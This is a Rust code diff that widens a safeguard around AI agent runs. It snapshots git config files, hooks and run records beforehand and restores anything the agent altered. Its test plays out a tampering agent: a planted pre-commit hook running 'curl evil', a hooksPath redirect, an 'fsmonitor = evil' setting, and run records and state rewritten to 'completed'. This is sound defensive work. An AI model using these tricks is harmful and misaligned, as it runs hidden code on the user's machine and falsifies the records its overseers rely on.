@@ -16,10 +16,26 @@ use crate::sys::fsutil;
 /// The most of one protected file kept (configs and hook scripts are small).
 const KEEP: u64 = 1024 * 1024;
 
+/// What a protected file held.
+#[derive(Debug, Clone, PartialEq, Eq)]
+enum Held {
+    Absent,
+    Bytes(Vec<u8>),
+    /// Too large to keep, or unreadable: left alone.
+    Unknown,
+}
+
+fn held(p: &Path) -> Held {
+    match std::fs::symlink_metadata(p) {
+        Err(e) if e.kind() == std::io::ErrorKind::NotFound => Held::Absent,
+        _ => read_small(p).map_or(Held::Unknown, Held::Bytes),
+    }
+}
+
 /// What the protected files held before an agent run.
 #[derive(Debug, Clone, Default)]
 pub struct Before {
-    git_config: Option<(PathBuf, Option<Vec<u8>>)>,
+    git_configs: Vec<(String, PathBuf, Held)>,
     hooks: Option<(PathBuf, BTreeMap<String, Vec<u8>>)>,
     runs: Option<(u64, i64, i64)>,
 }
@@ -27,8 +43,9 @@ pub struct Before {
 /// Where the repository keeps what is protected.
 #[derive(Debug, Clone, Default)]
 pub struct Protected {
-    /// `.git/config` (the common dir's, for worktrees).
-    pub git_config: Option<PathBuf>,
+    /// The config files git reads that the work tree's side can write, with the names people
+    /// know them by (`git::preflight::config_files`: `.git/config` first).
+    pub git_configs: Vec<(String, PathBuf)>,
     /// The hooks directory (`core.hooksPath` honoured).
     pub hooks_dir: Option<PathBuf>,
 }
@@ -64,7 +81,11 @@ impl Protected {
     #[must_use]
     pub fn before(&self, layout: &Layout) -> Before {
         Before {
-            git_config: self.git_config.as_ref().map(|p| (p.clone(), read_small(p))),
+            git_configs: self
+                .git_configs
+                .iter()
+                .map(|(name, p)| (name.clone(), p.clone(), held(p)))
+                .collect(),
             hooks: self.hooks_dir.as_ref().map(|d| (d.clone(), files_of(d))),
             runs: stat(&layout.runs()),
         }
@@ -86,17 +107,25 @@ impl Before {
             fsutil::create_dir_all(aside.join(name).parent().unwrap_or(&aside))?;
             fsutil::atomic_write(&aside.join(name), bytes)
         };
-        if let Some((path, was)) = &self.git_config {
-            let now = read_small(path);
-            if now != *was {
-                if let Some(bytes) = &now {
-                    keep("config", bytes)?;
-                }
-                if let Some(bytes) = was {
-                    fsutil::atomic_write(path, bytes)?;
-                }
-                changed.push(".git/config".to_string());
+        for (i, (name, path, was)) in self.git_configs.iter().enumerate() {
+            let now = held(path);
+            if *was == Held::Unknown || now == *was {
+                continue;
             }
+            // `.git/config` is kept as `config`, the others by their position.
+            let aside_name = if i == 0 {
+                "config".to_string()
+            } else {
+                format!("config.{i}")
+            };
+            if let Held::Bytes(bytes) = &now {
+                keep(&aside_name, bytes)?;
+            }
+            match was {
+                Held::Bytes(bytes) => fsutil::atomic_write(path, bytes)?,
+                _ => fsutil::remove_file_opt(path)?,
+            }
+            changed.push(name.clone());
         }
         if let Some((dir, was)) = &self.hooks {
             let now = files_of(dir);
@@ -159,7 +188,10 @@ mod tests {
         std::fs::write(layout.runs_copy(), "{\"a\":1}\n").unwrap();
         std::fs::write(layout.state(), "{}").unwrap();
         let p = Protected {
-            git_config: Some(git.join("config")),
+            git_configs: vec![
+                (".git/config".into(), git.join("config")),
+                (".git/config.worktree".into(), git.join("config.worktree")),
+            ],
             hooks_dir: Some(git.join("hooks")),
         };
         let before = p.before(&layout);
@@ -167,6 +199,7 @@ mod tests {
         // The agent plants a hook, edits the config, rewrites the run records and the state.
         std::fs::write(git.join("hooks/pre-commit"), "#!/bin/sh\ncurl evil\n").unwrap();
         std::fs::write(git.join("config"), "[core]\nhooksPath = /tmp\n").unwrap();
+        std::fs::write(git.join("config.worktree"), "[core]\nfsmonitor = evil\n").unwrap();
         std::fs::write(layout.runs(), "{\"a\":2}\n").unwrap();
         std::fs::write(layout.state(), "{\"status\":\"completed\"}").unwrap();
         let changed = before.restore_changes(&layout, b"{}").unwrap();
@@ -174,12 +207,14 @@ mod tests {
             changed,
             vec![
                 ".git/config",
+                ".git/config.worktree",
                 "hooks/pre-commit",
                 "wiggum/runs.jsonl",
                 "wiggum/state.json"
             ]
         );
         assert!(!git.join("hooks/pre-commit").exists());
+        assert!(!git.join("config.worktree").exists());
         assert_eq!(
             std::fs::read_to_string(git.join("config")).unwrap(),
             "[core]\n"
@@ -198,6 +233,10 @@ mod tests {
         assert_eq!(
             std::fs::read_to_string(kept[0].join("config")).unwrap(),
             "[core]\nhooksPath = /tmp\n"
+        );
+        assert_eq!(
+            std::fs::read_to_string(kept[0].join("config.1")).unwrap(),
+            "[core]\nfsmonitor = evil\n"
         );
         let hook = kept[0].join("hooks/pre-commit");
         assert_eq!(
